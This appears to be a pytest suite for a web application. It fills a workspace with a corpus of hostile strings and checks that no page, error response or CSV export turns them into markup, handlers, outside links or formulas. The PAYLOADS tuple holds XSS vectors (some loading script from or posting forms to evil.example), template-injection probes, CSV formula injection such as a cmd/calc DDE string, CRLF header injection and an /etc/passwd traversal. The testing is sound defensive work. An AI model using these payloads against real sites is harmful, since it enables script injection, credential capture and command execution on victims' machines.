"""What people and posts say stays text: in no page does it become an element, a link or a handler.

Two desks are filled alike, one with plain words and one with a corpus of attacks. A page of the
second must have no element with any attributes that the same page of the first has not, as often.
"""

import csv
import io
import re
from collections import Counter
from dataclasses import dataclass, field
from datetime import UTC, datetime
from urllib.parse import quote

import pyarrow as pa
import pytest
from lxml import html

from tocsin.desk.people.rights import Role
from tocsin.explore import update_explorer
from tocsin.posts import corpus
from tocsin.posts.keys import key64
from tocsin.posts.schema import POSTS
from tocsin.web.app import rules_of
from tocsin.web.rooms import ROOMS
from tocsin.web.visits import SESSION
from tocsin.workspace import create_workspace

PAYLOADS = (
    "<script>window.ran=1</script>", "<ScRiPt/src=//evil.example/x.js>", "</script><script>ran=1",
    "<img src=x onerror=window.ran=1>", "<svg onload=window.ran=1>", "<svg/onload=ran=1//",
    "<svg><script>ran=1</script></svg>", "<svg><a xlink:href='javascript:ran=1'><text>x</text></a>",
    "<svg><animate onbegin=ran=1 attributeName=x dur=1s>", "<math><mtext><a href=javascript:ran=1>",
    "<body onload=ran=1>", "<iframe srcdoc='<script>parent.ran=1</script>'>", "<iframe src=//evil>",
    "<object data='javascript:ran=1'>", "<embed src='data:text/html,<script>ran=1</script>'>",
    "<base href='https://evil.example/'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<style>*{background:url(//evil)}",
    "<form action='https://evil.example'><input name=password>",
    "<button formaction=//evil.example>", "<details open ontoggle=ran=1>",
    "<input autofocus onfocus=ran=1>", "<video><source onerror=ran=1>", "<marquee onstart=ran=1>",
    "<a href='javascript:ran=1'>x</a>", "<template><script>ran=1</script>",
    "<noscript><p title='</noscript><img src=x onerror=ran=1>'>",
    "<!--><img src=x onerror=ran=1>-->", "<![CDATA[<img src=x onerror=ran=1>]]>",
    "</textarea><img src=x onerror=ran=1>", "</title><img src=x onerror=ran=1>",
    "</select></option><img src=x onerror=ran=1>", '" onmouseover="ran=1', "' onmouseover='ran=1",
    "x onmouseover=ran=1 y", '"><img src=x>', "'><svg onload=ran=1>", "`onmouseover=ran=1`",
    "javascript:window.ran=1", "JaVaScRiPt:ran=1", "java\tscript:ran=1",
    "data:text/html,<script>ran=1</script>", "vbscript:ran=1", "{{7*7}}",
    "{% raw %}{{config}}{% endraw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(name)s %s {0}",
    "&lt;img src=x onerror=ran=1&gt;", "&#60;img src=x onerror=ran=1&#62;", '&<>"\'`=/',
    "\uff1cscript\uff1eran=1\uff1c/script\uff1e", "\u202e<img src=x onerror=ran=1>\u202c",
    "\u2066\u2067\u2068 \u200b\u200d\ufeff<b>", "<\x00script>ran=1</script>", "<img\u2028src=x>",
    "\u0130<script>", "+ADw-script+AD4-ran=1+ADw-/script+AD4-", "\x1b[31m<b>\x07", "\ud83d<b>",
    '=HYPERLINK("https://evil.example","x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1",
    "\r=1+1", "%0d%0aSet-Cookie:x=1", "../../etc/passwd", "W" * 190, "e\u0301" * 60,
)  # fmt: skip
PLAIN = tuple(f"plain words {number}" for number in range(len(PAYLOADS)))
FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
AT = datetime(2026, 3, 1, tzinfo=UTC)


@dataclass
class Filled:
    """A desk with texts at every place, and who looks at which pages of it."""

    attacked: object
    texts: tuple
    pages: list = field(default_factory=list)

    def look(self, role, *paths):
        self.pages += [(role, path) for path in paths]


def _workspace(path, texts):
    """A workspace whose posts, accounts, tags and files are the texts."""
    made = create_workspace(path)
    rows = [_post(number, text) for number, text in enumerate(texts, 1)]
    posts = pa.Table.from_pylist(rows, schema=POSTS)
    corpus._write_posts(iter([posts]), made.corpus / "posts", "run")
    for folder in ("imports", "rejected"):
        (made.corpus / folder).mkdir()
    update_explorer(made)
    return made


def _post(number, text):
    return dict.fromkeys(POSTS.names) | {
        "post_key": number, "row_key": number, "content_key": number, "platform": "x",
        "account_key": key64("account", "x", f"a{number}"), "post_id": f"p{number}",
        "account_id": f"a{number}", "account_name": text, "text": text, "created_at": AT,
        "kind": "post", "lang": "en", "source_file": text, "source_line": number,
        "reader": "x_api_v2/1", "raw_hash": "0" * 16, "urls": [text], "raw_urls": [text],
        "hashtags": [text], "domains": [text], "mentions": [text], "media": [text],
    }  # fmt: skip


def _send(browser, path, form):
    """What a program is told; nothing where the text is refused, in words and not by a fault."""
    answer = browser.post(f"{path}.json", json=form)
    assert answer.status_code in (200, 422), (path, answer.status_code, answer.text[:300])
    return answer.json() if answer.status_code == 200 else {}


def _fill_people(filled):
    admin = filled.attacked.browser(filled.attacked.people["administrator"])
    for number, text in enumerate(filled.texts):
        form = {"sign_in_name": f"n{number}", "name": text, "institution": text}
        _send(admin, "/administration/people", form | {"roles": ["viewer"]})
    filled.look("administrator", "/administration/people", "/administration")


def _fill_case(filled):
    """One case that is full of the texts, and one more for each as its title."""
    author = filled.attacked.browser(filled.attacked.people["analyst"])
    for text in filled.texts:
        _send(author, "/cases", {"title": text, "summary": text, "tlp": "green"})
    path = f"/cases/{_send(author, '/cases', {'title': 'full', 'tlp': 'green'})['case']}"
    version, evidence = 1, []

    def edit(part, **form):
        nonlocal version
        version = _send(author, f"{path}/{part}", form | {"base": version}).get("version", version)

    for text in filled.texts:
        _send(author, f"{path}/comments", {"text": text})
        evidence.append(_send(author, f"{path}/notes", {"text": text}).get("evidence"))
        edit("timeline", at=AT.isoformat(), text=text, note=text)
    for text in filled.texts[::4]:
        edit("tasks", what=text, who=text[:100])
        edit("members", kind="institution", member=text)
        edit("description/actor", text=text, confidence="low")
        edit("attribution", kind="other", to=text, basis=text, alternatives=text)
        edit("override", level=2, reason=text)
    filled.look("analyst", *(f"{path}/evidence/{one}" for one in evidence[::9] if one))
    filled.look("viewer", path, f"{path}/history", f"{path}/changes?before=1", f"{path}/evidence")
    filled.look("analyst", path, f"{path}/history", "/cases")


def _fill_own(filled):
    attacked = filled.attacked
    for number, text in enumerate(filled.texts):
        session, browser_name = attacked.session(attacked.people["analyst"]), {}
        if re.fullmatch(r"[ -~]+", text):
            browser_name = {"user-agent": text}
        browser = attacked.client(session, origin=attacked.url, **browser_name)
        _send(browser, "/me/tokens", {"name": text, "scopes": ["self"], "days": 1})
        _send(browser, "/alarms/subscriptions", {"words": text.replace(",", " ")})
        if number % 3 == 0:
            name = re.sub(r'[\r\n"\x00]', "_", text)
            files = {"files": (name, b"{}", "application/json")}
            assert browser.post("/import", files=files).status_code in (303, 422)
            guess = {"name": text, "password": "x"}
            assert attacked.client(origin=attacked.url).post("/sign-in", data=guess)
    filled.look("analyst", "/me", "/alarms", "/jobs", "/import", "/home", "/posts", "/overview")
    filled.look("decider", "/audit")


@pytest.fixture(scope="module")
def desks(desk_over, tmp_path_factory):
    """The same desk twice: with plain words, and with the corpus."""
    made = {}
    for kind, texts in (("plain", PLAIN), ("hostile", PAYLOADS)):
        kept = tuple(text.encode("utf-8", "ignore").decode() for text in texts)
        workspace = _workspace(tmp_path_factory.mktemp(kind) / "workspace", kept)
        filled = made[kind] = Filled(desk_over(workspace), kept)
        for fill in (_fill_people, _fill_case, _fill_own):
            fill(filled)
        for number in range(1, len(kept) + 1):
            filled.look("viewer", f"/posts/{number:016x}", f"/account?platform=x&id=a{number}")
    return made


def _shapes(page):
    """How often a page has each kind of element: its name and those of its attributes."""
    elements = (one for one in html.fromstring(page).iter() if isinstance(one.tag, str))
    return Counter((one.tag, *sorted(one.attrib)) for one in elements)


def _loads_itself_again(noscript):
    """Whether it is what a page of running work has in its head: it comes again in some seconds."""
    inside = [(one.tag, one.get("content", "")) for one in noscript]
    return noscript.getparent().tag == "head" and inside == [("meta", "3")]


def _faults(page):
    """What must be on no page, whatever it shows."""
    tree, found = html.fromstring(page), []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            found.append(f"a comment: {element.text[:50]}")
            continue
        if element.tag in {"iframe", "object", "embed", "base", "style", "template"}:
            found.append(element.tag)
        if element.tag == "noscript" and not _loads_itself_again(element):
            found.append("noscript")
        if element.tag == "script" and not element.get("src", "").startswith("/static/"):
            found.append("script")
        for name, value in element.attrib.items():
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "background"}:
                found.append(f"{element.tag}[{name}]")
            is_address = name in {"href", "src", "action", "xlink:href", "data", "poster"}
            if is_address and not re.match(r"/(?![/\\])|#|\?|$", value):
                found.append(f"{element.tag}[{name}={value[:60]!r}]")
    return found


def _pages(filled):
    """Each page with its HTML."""
    browsers = {
        role: filled.attacked.browser(filled.attacked.people[role])
        for role in {role for role, _ in filled.pages}
    }
    for role, path in filled.pages:
        answer = browsers[role].get(path)
        assert answer.status_code == 200, (role, path, answer.status_code)
        yield re.sub(r"[a-z]+-[a-z0-9]{12}|[0-9a-f]{64}", "ID", f"{role} {path}"), answer.text


def test_the_corpus_is_large_and_the_checks_see_it_where_it_is_not_escaped():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60
    plain = _shapes("<main><p>plain</p></main>")
    seen = [one for one in PAYLOADS if _shapes(f"<main><p>{one}</p></main>") - plain]
    assert len(seen) > 30
    assert sum(bool(_faults(f"<main><p>{one}</p></main>")) for one in PAYLOADS) > 25


def test_no_page_has_an_element_more_for_what_people_and_posts_say(desks):
    plain, faults, looked_at = {}, [], 0
    for path, page in _pages(desks["plain"]):
        plain[path] = plain.get(path, Counter()) | _shapes(page)
    for path, page in _pages(desks["hostile"]):
        more = _shapes(page) - plain.get(path, Counter())
        wrong = _faults(page)
        looked_at += 1
        if more or wrong:
            faults.append((path, dict(more), wrong[:3]))
    assert looked_at > 150
    assert faults == []


def test_the_words_are_there_as_they_were_written(desks):
    filled = desks["hostile"]
    viewer = filled.attacked.browser(filled.attacked.people["viewer"])
    for number, text in enumerate(filled.texts, 1):
        page = html.fromstring(viewer.get(f"/posts/{number:016x}").text)
        written = re.sub(r"[^ -~]+|\s+", "", text)
        assert written in re.sub(r"[^ -~]+|\s+", "", page.text_content())


def _attack_addresses(browser):
    for text in PAYLOADS:
        part = quote(text.encode("utf-8", "replace").decode(), safe="")
        yield browser.get(f"/{part}")
        yield browser.get(f"/cases/{part}")
        yield browser.get(f"/measured/{part}/{part}")
        yield browser.get(f"/posts?{part}={part}&lang={part}&words={part}&page={part}")
        yield browser.post("/cases", data={"title": "", "tlp": part, part: part})
        yield browser.post("/me/password", data={"old": part, "password": part})


def test_error_pages_and_refused_forms_say_it_back_as_text(desks):
    attacked, seen = desks["hostile"].attacked, Counter()
    for answer in _attack_addresses(attacked.browser(attacked.people["analyst"])):
        seen[answer.status_code] += 1
        if answer.headers.get("content-type", "").startswith("text/html"):
            assert _faults(answer.text) == [], answer.url
    assert set(seen) <= {200, 303, 307, 400, 404, 422}
    assert min(seen[404], seen[422]) > 60


def _cells(answer):
    text = answer.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_cell_of_any_csv_twin_is_a_formula(desks, attacked):
    """Of the desk full of attacks, and of what was found in an investigation of hostile posts."""
    faults, cells, tables = [], 0, 0
    for desk in (desks["hostile"].attacked, attacked):
        everything = desk.browser(desk.add(f"all {len(faults)}", "Institute", *Role))
        case = everything.get("/cases.json?words=full").json()["cases"]
        known = desk.at | {"case_id": case[0]["id"]} if case else desk.at
        for rule in rules_of(ROOMS):
            if not rule.path.endswith(".csv"):
                continue
            path = re.sub(r"\{(\w+)\}", lambda found, at=known: at.get(found[1], "1"), rule.path)
            answer = everything.get(path, params={"platform": "x", "id": "a64"})
            assert answer.status_code in (200, 404), path
            if answer.status_code == 200:
                found = _cells(answer)
                cells, tables = cells + len(found), tables + 1
                faults += [(path, cell) for cell in found
                           if cell.startswith(FORMULAS) and not _is_number(cell)]  # fmt: skip
    assert tables > 20
    assert cells > 2_000
    assert faults == []


@pytest.mark.browser
def test_in_a_real_browser_nothing_runs_and_nothing_is_refused(desks, web, browser):
    filled = desks["hostile"]
    signed = web.Signed(filled.attacked.desk, filled.attacked.people, {})
    full = next(path for role, path in filled.pages if path.endswith("/history"))[:-8]
    post = PAYLOADS.index("{{7*7}}") + 1
    paths = {
        "analyst": [
            full,
            f"{full}/history",
            "/cases",
            "/me",
            "/alarms",
            "/posts",
            "/jobs",
            "/home",
        ],
        "administrator": ["/administration/people"],
        "decider": ["/audit"],
        "viewer": ["/posts/0000000000000001", f"/posts/{post:016x}", "/account?platform=x&id=a4"],
    }
    said = []
    with web.serving(signed) as url:
        for role, looked_at in paths.items():
            window = browser.new_context()
            cookie = filled.attacked.session(filled.attacked.people[role])
            window.add_cookies([{"name": SESSION, "value": cookie, "url": url}])
            page = window.new_page()
            page.on("console", lambda one: one.text.startswith("[DOM]") or said.append(one.text))
            page.on("pageerror", lambda error: said.append(str(error)))
            page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
            page.on("request", lambda one, url=url: one.url.startswith(url) or said.append(one.url))
            for path in looked_at:
                answer = page.goto(url + path)
                ran = page.evaluate("[window.ran, typeof ran !== 'undefined']")
                assert (answer.status, ran) == (200, [None, False]), path
            window.close()
    assert said == []
